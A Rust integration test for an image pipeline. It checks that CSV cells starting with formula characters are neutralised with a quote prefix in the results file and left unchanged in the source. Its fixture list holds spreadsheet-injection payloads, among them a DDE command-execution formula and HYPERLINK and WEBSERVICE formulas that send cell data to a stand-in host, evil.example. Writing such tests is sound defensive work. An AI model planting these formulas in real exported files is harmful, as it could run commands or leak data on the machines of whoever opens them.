//! CSVs whose cells are meant for whoever opens the results in a spreadsheet.

use halftone_pipeline::request::ResultsFile;

use crate::world::{World, batch, later, upload};

/// What spreadsheets run, and what they may be led to take for it.
const FORMULAS: [&str; 14] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"photo\")",
    "=WEBSERVICE(\"http://evil.example/\")",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
];

/// A row for each formula, which stands in every one of its cells but the URL's.
fn csv_of(world: &World) -> String {
    let quoted = |cell: &str| format!("\"{}\"", cell.replace('"', "\"\""));
    let mut text = String::from("S. No.,Product Name,Input Image Urls,Note,=Title\n");
    for (number, formula) in FORMULAS.iter().enumerate() {
        let cell = quoted(formula);
        let url = world.picture(&format!("/{number}.bmp"));
        text.push_str(&format!("{cell},{cell},{url},{cell},{cell}\n"));
    }
    text
}

#[tokio::test]
#[ignore = "needs the local stack: cargo local test"]
async fn formulas_in_any_column_are_text_in_the_results_and_untouched_in_the_source() {
    let world = World::new().await;
    let input = csv_of(&world);
    let upload = upload(input.clone(), None);
    let id = world.uploads().accept(upload, later()).await.unwrap().id;
    let messages = batch(&world.queued().await, 1);
    assert_eq!(messages.len(), FORMULAS.len());
    world.compress().run(&messages, later()).await;
    assert!(world.completion().finish(id, later()).await.unwrap());
    let results = world.results(id).await;
    let results = results.trim_start_matches('\u{feff}');
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(results.as_bytes());
    let mut quoted = 0;
    for record in reader.records() {
        for cell in &record.unwrap() {
            let runs = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
            assert!(!cell.starts_with(runs), "{cell:?}");
            quoted += usize::from(cell.starts_with('\''));
        }
    }
    // Each cell of each row, and the title.
    assert_eq!(quoted, FORMULAS.len() * 4 + 1, "{results}");
    // The file for the shop is the shop's, but for the URLs.
    let source = world.results_as(id, ResultsFile::Source).await;
    let source = String::from_utf8(source).unwrap();
    let mut expected = input;
    for image in world.recorded(id).await {
        let url = &image.input_url;
        let key = &image.success.as_ref().unwrap().output_key;
        let output = format!("https://api.example/prod/{key}");
        expected = expected.replace(&format!("{url},"), &format!("{output},"));
    }
    assert_eq!(source, expected);
}
